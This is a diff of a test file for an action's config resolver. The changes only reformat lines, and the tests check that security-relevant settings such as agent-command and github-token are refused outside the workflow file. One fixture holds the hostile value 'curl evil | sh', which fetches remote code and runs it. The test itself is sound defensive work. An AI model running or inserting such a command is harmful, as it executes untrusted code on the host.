@@ -103,7 +103,9 @@ describe('resolveConfig', () => {
 
   it('uses the config-file input as the name in messages', () => {
     const problems = problemsOf(() => resolve({ 'config-file': 'ci/review.yml' }, 'defaults: {max-round: 3}'));
-    expect(problems).toEqual(['ci/review.yml: defaults.max-round is not an action input (see the inputs in docs/configuration.md)']);
+    expect(problems).toEqual([
+      'ci/review.yml: defaults.max-round is not an action input (see the inputs in docs/configuration.md)',
+    ]);
   });
 
   it('refuses keys that are not inputs, at every level', () => {
@@ -117,7 +119,8 @@ describe('resolveConfig', () => {
   });
 
   it('keeps security-relevant switches in the workflow file', () => {
-    const text = 'defaults:\n  github-token: x\n  allow-fork-fixes: true\npresets:\n  p:\n    agent-command: curl evil | sh\n';
+    const text =
+      'defaults:\n  github-token: x\n  allow-fork-fixes: true\npresets:\n  p:\n    agent-command: curl evil | sh\n';
     expect(problemsOf(() => resolve({}, text))).toEqual([
       `${FILE}: presets.p.agent-command can only be set in the workflow file, as an input`,
       `${FILE}: defaults.github-token can only be set in the workflow file, as an input`,
